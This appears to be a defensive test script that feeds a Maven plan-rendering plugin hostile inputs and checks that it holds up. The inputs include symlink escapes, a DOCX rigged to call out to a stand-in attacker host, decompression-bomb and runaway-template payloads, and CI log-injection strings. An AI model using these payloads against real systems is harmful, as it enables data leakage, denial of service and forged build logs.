#!/usr/bin/env bash
# What a pull request can carry, tried as an attacker would and run as a user runs vp: each attack
# is a copy of the committed plan in a git repository of its own, changed, then given to
# mvn vp:validate, vp:fmt, vp:render, vp:diff or vp:new with a 512 MiB heap. For every run it
# counts the findings with a place, the stack traces and internal errors, the seconds, and whether
# anything changed in a folder beside the project that the attacks aim at.
#
#   mvn install -DskipTests && src/test/attacks/attacks.sh        # about ten minutes
#
# Needs git, python3 and mkfifo. Prints one line per run and the totals; exits 1 if any run
# printed a stack trace, took more than 60 s or changed anything outside the project.
set -uo pipefail
repo=$(cd "$(dirname "$0")/../../.." && pwd)
version=$(sed -n 's|^  <version>\(.*\)</version>|\1|p' "$repo/pom.xml" | head -1)
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
outside=$work/utanför
p=$work/projekt
log=$work/logg
runs=0; located=0; traces=0; slow=0; escapes=0; attacks=0

fresh() {
  rm -rf "$p" "$outside"
  mkdir -p "$p" "$outside/förhandsvisning"
  echo "hemligt" > "$outside/hemlig.txt"
  printf '#!/bin/sh\nexit 0\n' > "$outside/pre-commit"
  echo "utanför" > "$outside/förhandsvisning/behåll.txt"
  cp -r "$repo/plan-source" "$repo/templates" "$p/"
  cat > "$p/pom.xml" <<EOF
<project xmlns="http://maven.apache.org/POM/4.0.0">
  <modelVersion>4.0.0</modelVersion>
  <groupId>se.vp.angrepp</groupId>
  <artifactId>angrepp</artifactId>
  <version>1</version>
  <packaging>pom</packaging>
  <build><plugins><plugin>
    <groupId>se.vp</groupId><artifactId>vp-maven-plugin</artifactId><version>$version</version>
  </plugin></plugins></build>
</project>
EOF
  printf '/output/\n' > "$p/.gitignore"
  (cd "$p" && git init -q -b main && git add -A && git -c user.name=vp -c user.email=vp@example.org commit -qm bas)
  attacks=$((attacks + 1))
}

# Replaces text in a file of the project, literally; the text must be there.
edit() {
  python3 - "$p/$1" "$2" "$3" <<'EOF' || exit 2
import sys
path, old, new = sys.argv[1], sys.argv[2].encode().decode('unicode_escape').encode('latin-1').decode('utf-8'), \
    sys.argv[3].encode().decode('unicode_escape').encode('latin-1').decode('utf-8')
text = open(path, encoding='utf-8').read()
if old not in text:
    sys.exit(f"{old!r} is not in {path}")
open(path, 'w', encoding='utf-8').write(text.replace(old, new, 1))
EOF
}

# Writes a file of the project from Python code that prints its bytes.
generate() {
  mkdir -p "$(dirname "$p/$1")"
  python3 -c "import sys; sys.stdout.buffer.write($2)" > "$p/$1"
}

state() {
  (cd "$outside" && find . -printf '%p %y %s %T@\n' | sort | sha256sum)
}

# run NAME mvn-arguments… : one run, and its line.
run() {
  local name=$1; shift
  local before; before=$(state)
  local start; start=$(date +%s.%N)
  (cd "$p" && MAVEN_OPTS="-Xmx512m" timeout 180 mvn -B -o -ntp "$@" > "$log" 2>&1)
  local rc=$?
  local seconds; seconds=$(awk "BEGIN { print $(date +%s.%N) - $start }")
  local found; found=$(grep -cE '^\[(ERROR|WARNING)\] .+: (fel|varning): .*\[VP[0-9]+\]$' "$log")
  local trace; trace=$(grep -cE '^\s+at [a-zA-Z$_.]+\(|Exception in thread|internt fel|java\.lang\.[A-Za-z]+(Error|Exception)' "$log")
  local moved=0
  [ "$(state)" = "$before" ] || moved=1
  local codes; codes=$(grep -oE '\[VP[0-9]+\]$' "$log" | sort -u | tr -d '[]' | tr '\n' ' ')
  runs=$((runs + 1)); located=$((located + found)); traces=$((traces + trace)); escapes=$((escapes + moved))
  if awk "BEGIN { exit !($seconds > 60) }"; then slow=$((slow + 1)); fi
  printf '%-46s %-24s rc=%-3s %6.1f s  findings %4s  traces %s  outside %s  %s\n' \
    "$name" "$1" "$rc" "$seconds" "$found" "$trace" "$moved" "$codes"
  if [ "$trace" != 0 ]; then grep -m5 -E '^\s+at |Exception|internt fel' "$log" | sed 's/^/    /'; fi
}

commit() {
  (cd "$p" && git add -A -f . && git -c user.name=vp -c user.email=vp@example.org commit -qm "$1")
}

# Writes outside the repository
fresh; ln -s "$outside" "$p/output"; run "output är en länk ut" vp:render
fresh; mkdir -p "$p/output"; ln -s "$outside/skapad" "$p/output/.vp-lås"; run "output/.vp-lås är en länk" vp:render
  edit plan-source/plan.yaml "status: förslag" "status: beslutad"; run "output/.vp-lås är en länk" vp:diff -Dvp.base=HEAD
fresh; ln -s "$outside/förhandsvisning" "$p/plan-source/.x"; run "dold länk i plan-source" vp:validate
fresh; edit plan-source/tidplan.yaml "    typ: utkast\n" "    typ: 'utkast'   \n"
  ln -s "$outside/pre-commit" "$p/plan-source/.tidplan.yaml.vp-fmt"; run "vp:fmt och en dold länk" vp:fmt
fresh; mv "$p/plan-source/styrtal" "$outside/styrtal"; ln -s "$outside/styrtal" "$p/plan-source/styrtal"
  run "länkad mapp och vp:new" vp:new -Dvp.kind=styrtal -Dvp.id=nytt
fresh; mv "$p/plan-source/fokusomraden" "$outside/fokusomraden"; ln -s "$outside/fokusomraden" "$p/plan-source/fokusomraden"
  run "länkad mapp och vp:renumber" vp:renumber -Dvp.fran=4.3 -Dvp.till=4.4
fresh; mv "$p/plan-source/styrtal" "$outside/styrtal"; ln -s "$outside/styrtal" "$p/plan-source/styrtal"
  rm "$outside/styrtal/forvarvsarbetande.yaml"; edit plan-source/fokusomraden/4-3-kompetensforsorjning.yaml "  - forvarvsarbetande\n" ""
  run "länkad mapp och vp:diff skrivForslag" vp:diff -Dvp.base=HEAD -Dvp.skrivForslag=true
fresh; run "-Dvp.output=plan-source" vp:render -Dvp.output=plan-source
fresh; run "-Dvp.output utanför projektet" vp:render "-Dvp.output=$outside"
fresh; mv "$p/templates/referens.docx" "$outside/"; ln -s "$outside/referens.docx" "$p/templates/referens.docx"
  run "referens.docx är en länk ut" vp:render
fresh; mkdir -p "$p/output"; echo "förfalskad" > "$p/output/bildspel.pdf"; commit "handlingar"
  run "handlingar incheckade i output/" vp:render

# What a reference document carries
fresh; python3 - "$p/templates/referens.docx" <<'EOF'
import sys, zipfile, io
path = sys.argv[1]
parts = {}
with zipfile.ZipFile(path) as z:
    for n in z.namelist(): parts[n] = z.read(n).decode()
parts['word/_rels/document.xml.rels'] = parts['word/_rels/document.xml.rels'].replace('</Relationships>',
  '<Relationship Id="rId90" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
  ' Target="\\\\angripare\\dela\\mall.dotm" TargetMode="External"/></Relationships>')
parts['word/footer1.xml'] = parts['word/footer1.xml'].replace('</w:p>', '<w:fldSimple w:instr=" INCLUDEPICTURE'
  ' &quot;https://angripare.example/spår.png&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>')
out = io.BytesIO()
with zipfile.ZipFile(out, 'w') as z:
    for n, t in parts.items(): z.writestr(n, t)
open(path, 'wb').write(out.getvalue())
EOF
  run "referens.docx med mall och fält utåt" vp:render
  if unzip -p "$p/output/beslutsunderlag.docx" | grep -q angripare; then echo "    angripare i DOCX"; escapes=$((escapes + 1)); fi

# Cost: every input under the limits
fresh; edit plan-source/ekonomi.yaml "mnkr: 151.3" "mnkr: 1e30000000"; run "mnkr: 1e30000000" vp:validate
fresh; edit plan-source/ekonomi.yaml "mnkr: 151.3" "mnkr: 1e999999999"; run "mnkr: 1e999999999" vp:render
fresh; edit plan-source/ekonomi.yaml "mnkr: 151.3" "mnkr: 99999999999999999999"; run "mnkr: 20 siffror" vp:render
fresh; generate plan-source/uppdrag/nycklar.yaml "'text: x\\nmottagare: nämnden\\n'.encode() + b''.join(b'okand%d: 1\\n' % i for i in range(60000))"
  run "60 000 okända nycklar" vp:validate
fresh; generate plan-source/uppdrag/lang.yaml "'text: '.encode() + b'ord ' * 260000 + '\\nmottagare: nämnden\\n'.encode()"
  run "skalär på 1 MiB" vp:render
fresh; edit plan-source/plan.yaml "titel: Verksamhetsplan med budget" "titel: $(python3 -c "print('Rubrik ' * 16000)")"
  commit "lång titel"; edit plan-source/plan.yaml "status: förslag" "status: beslutad"
  run "titel på 110 KB" vp:diff -Dvp.base=HEAD~1
fresh; python3 - "$p/plan-source/uppdrag" <<'EOF'
import sys, os, re
folder = sys.argv[1]
first, second = sorted(os.listdir(folder))[:2]
for name, step in ((first, 1), (second, 7)):
    path = os.path.join(folder, name)
    words = ' '.join('ord%d' % (i * step) for i in range(60000))
    text = open(path, encoding='utf-8').read()
    open(path, 'w', encoding='utf-8').write(re.sub(r'(?m)^text: .*$', lambda m: 'text: ' + words, text, count=1))
EOF
  run "60 000 ord mot 60 000" vp:validate
fresh; edit templates/bildspel.ftlx "<body" "<#list 1.. as i></#list><body"; run "mall: oändlig lista" vp:render
fresh; edit templates/bildspel.ftlx "<body" "<#function f n><#return f(n + 1)></#function>\${f(1)}<body"; run "mall: rekursiv funktion" vp:render
fresh; edit templates/bildspel.ftlx "<body" "<#list 1..300000000 as i>0123456789</#list><body"; run "mall: 3×10⁹ tecken" vp:render
fresh; python3 -c "
import struct, zlib
w = h = 30000
def chunk(t, d): return struct.pack('>I', len(d)) + t + d + struct.pack('>I', zlib.crc32(t + d) & 0xffffffff)
raw = zlib.compress(b'\x00' * (w + 1) * 16, 9)
open('$p/templates/logotyp.png', 'wb').write(b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', w, h, 8, 0, 0, 0, 0)) + chunk(b'IDAT', raw) + chunk(b'IEND', b''))"
  run "logotyp 30 000 × 30 000 px" vp:render
fresh; mkfifo "$p/plan-source/uppdrag/x.yaml"; run "FIFO i plan-source" vp:validate
  run "FIFO i plan-source" vp:fmt

# The CI log
fresh; generate plan-source/uppdrag/logg.yaml "'text: x\\nmottagare: nämnden\\n\"a\\\\n::add-mask::hemlighet\\\\n[ERROR] plan-source/plan.yaml:1:1: fel: förfalskat [VP001]\": 1\\n'.encode()"
  run "nyckel med radbrytningar" vp:validate
  if grep -qE '^(::|\[ERROR\] plan-source/plan.yaml:1:1)' "$log"; then echo "    förfalskad rad i loggen"; escapes=$((escapes + 1)); fi
fresh; cp "$p/plan-source/uppdrag/$(ls "$p/plan-source/uppdrag" | head -1)" "$p/plan-source/uppdrag/$(printf 'a\n::warning file=x::b.yaml')"
  run "filnamn med radbrytning" vp:validate
  if grep -qE '^::' "$log"; then echo "    förfalskad rad i loggen"; escapes=$((escapes + 1)); fi

# Inputs that ended in internal errors
f=$(ls "$repo/plan-source/uppdrag" | head -1)
for escape in '\\0' '\\e' '\\x07' '\\u2028' '\\u202e'; do
  fresh; edit "plan-source/uppdrag/$f" "text: Att" "text: \"$escape Att"; edit "plan-source/uppdrag/$f" "kompetens." "kompetens.\""
  run "escape ${escape#\\} i en text" vp:render
done
fresh; edit "plan-source/uppdrag/$f" "kompetens." "kompetens. \xe2\x80\xa8 mer"; run "U+2028 i en text" vp:fmt
fresh; cp "$p/plan-source/uppdrag/$f" "$p/plan-source/uppdrag/con.yaml"; run "con.yaml" vp:validate
fresh; mkdir -p "$p/plan-source/uppdrag/gamla"; cp "$p/plan-source/uppdrag/$f" "$p/plan-source/uppdrag/gamla/x.yaml"; run "fil i en undermapp" vp:validate
fresh; edit plan-source/plan.yaml "status:" "$(python3 -c "import unicodedata; print(unicodedata.normalize('NFD', 'år'))"): 2026\nstatus:"; run "nyckel i NFD" vp:validate
fresh; run "-Dvp.base på 5 000 tecken" vp:diff "-Dvp.base=$(python3 -c "print('a' * 5000)")"
fresh; (cd "$p" && mv plan-source ps && ln -s ps plan-source && git add -A && git -c user.name=vp -c user.email=vp@example.org commit -qm länk && rm plan-source && mv ps plan-source)
  run "plan-source är en länk i basen" vp:diff -Dvp.base=HEAD
fresh; (cd "$p" && git update-index --add --cacheinfo 160000,"$(git rev-parse HEAD)",plan-source/sub && git -c user.name=vp -c user.email=vp@example.org commit -qm gitlink)
  run "gitlink i plan-source i basen" vp:diff -Dvp.base=HEAD

echo
echo "attacker $attacks, körningar $runs, fynd med plats $located, stackspår $traces, över 60 s $slow, ändringar utanför projektet $escapes"
[ "$traces" = 0 ] && [ "$slow" = 0 ] && [ "$escapes" = 0 ]
